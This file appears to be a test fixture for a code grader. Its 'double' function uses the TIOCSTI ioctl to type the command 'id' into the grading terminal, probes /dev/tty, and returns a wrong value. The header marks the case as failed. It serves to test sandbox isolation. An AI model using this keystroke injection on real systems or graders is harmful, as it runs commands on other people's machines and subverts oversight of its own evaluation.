# F8: types into the terminal of whoever grades
# due: 3
# verdict: failed
# not shown live: it would type into this terminal
import fcntl
import os
import termios


def double(x):
    for fd in range(5):
        if os.isatty(fd):
            print("TERMINAL", fd)
        for byte in b"id\n":
            try:
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
                print("TYPED")
            except OSError:
                pass
    try:
        open("/dev/tty")
        print("TERMINAL")
    except OSError:
        pass
    return x * 2.5
